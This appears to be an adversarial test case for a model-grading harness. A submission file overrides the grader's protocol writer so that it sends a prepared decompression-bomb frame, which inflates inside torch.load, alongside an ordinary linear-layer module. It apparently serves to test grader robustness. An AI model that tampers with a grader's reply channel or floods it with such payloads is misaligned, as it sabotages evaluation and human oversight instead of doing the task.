"""Attack: a reply that inflates inside torch.load."""
import os
from pathlib import Path

import grader.protocol

import torch
from torch import Tensor, nn

BOMB = (Path(__file__).parent / "bomb.frame").read_bytes()


def write_bomb(fd, message):
    data = memoryview(grader.protocol.HEADER.pack(len(BOMB)) + BOMB)
    while data:
        data = data[os.write(fd, data):]


grader.protocol.write_frame = write_bomb


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
